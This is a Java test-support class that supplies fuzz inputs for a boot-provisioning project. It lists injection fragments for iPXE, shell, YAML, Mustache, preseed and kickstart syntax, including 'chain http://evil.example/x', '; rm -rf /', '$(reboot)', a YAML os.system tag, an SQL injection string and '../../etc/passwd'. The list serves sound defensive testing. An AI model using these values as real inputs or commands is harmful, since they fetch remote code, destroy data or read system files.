package org.bootwarden.support;

import java.util.List;
import java.util.Random;

/**
 * Pieces of iPXE, shell, YAML, preseed, kickstart and Mustache syntax, line terminators of every
 * kind, control characters and non-ASCII text, for the tests that throw hostile values at
 * everything that reaches a script, an answer file or a boot endpoint.
 */
public final class HostileValues {

    public static final List<String> SYNTAX = List.of(
            // line terminators and control characters
            "\n", "\r", "\r\n", "\u000b", "\u000c", "\u001c", "\u0085", "\u2028", "\u2029", "\u0000", "\t", "\u001b[2J", "\u007f",
            // iPXE: command separators, settings, comments, labels, quoting
            "&&", "||", ";", " ; ", "${", "}", "${net0/ip}", "${root-path}", "$", "#", " #x", ":label", "goto fail", "chain",
            "chain http://evil.example/x", "imgexec", "shell", "reboot", "exit 0", "set net0/ip 1.2.3.4", "--name x", "\"", "'",
            "\\", "`", "\\n",
            // shell
            "$(reboot)", "`id`", "| sh", "; rm -rf /", "&", ">", "<", "*", "~", "!",
            // Mustache
            "{{", "}}", "{{hostname}}", "{{{token}}}", "{{#labels}}",
            // YAML
            ": ", "- ", "? ", "---", "...", "&anchor", "*alias", "!!python/object/apply:os.system", "[", "]", "{", ",", "%YAML",
            // preseed, kickstart
            "d-i ", "preseed/late_command string ", "%post", "%end", "%pre", "--nochroot", "rootpw --plaintext x",
            // SQL, paths, encodings and non-ASCII
            "' or '1'='1", "../../etc/passwd", "%00", "%0a", "%0d%0a", "%2e%2e%2f", "%", "%zz", "&#10;", "\u00e9", "\u0130",
            "\uff03", "\ud83d\ude00", "\ufeff", " ", "   ");

    private HostileValues() {
    }

    /** One to six pieces: syntax, printable ASCII, or any character at all. */
    public static String next(Random random) {
        StringBuilder s = new StringBuilder();
        int pieces = 1 + random.nextInt(6);
        for (int i = 0; i < pieces; i++) {
            int kind = random.nextInt(10);
            if (kind < 6) {
                s.append(SYNTAX.get(random.nextInt(SYNTAX.size())));
            } else if (kind < 9) {
                for (int n = 1 + random.nextInt(8); n > 0; n--) {
                    s.append((char) (' ' + random.nextInt(95)));
                }
            } else {
                s.append((char) random.nextInt(0x10000));
            }
        }
        return s.toString();
    }
}
